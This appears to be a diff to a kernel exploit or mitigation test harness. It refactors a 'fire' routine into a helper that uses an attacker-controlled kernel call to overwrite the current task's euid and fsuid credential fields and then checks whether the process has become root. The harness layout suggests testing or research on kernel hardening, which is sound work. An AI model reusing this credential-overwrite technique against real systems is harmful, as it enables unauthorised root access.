@@ -18,12 +18,18 @@ static bool control(void)
 	return is_ordinary();
 }
 
+/* The word in which an id stands, and with it what this build placed beside it. */
+static void clear_id(const char *name)
+{
+	const uint64_t word = (own_credentials(own_task()) + member(name)) & ~UINT64_C(7);
+
+	call_kernel(ATTACKER_CALL, symbol("sealed_store"), word, 0, 0, 0);
+}
+
 static bool fire(void)
 {
-	const uint64_t credentials = own_credentials(own_task());
-
-	call_kernel(ATTACKER_CALL, symbol("sealed_store"), credentials, 0, 0, 0);
-	call_kernel(ATTACKER_CALL, symbol("sealed_store"), credentials + 8, 0, 0, 0);
+	clear_id("credentials.euid");
+	clear_id("credentials.fsuid");
 	return is_root();
 }
 
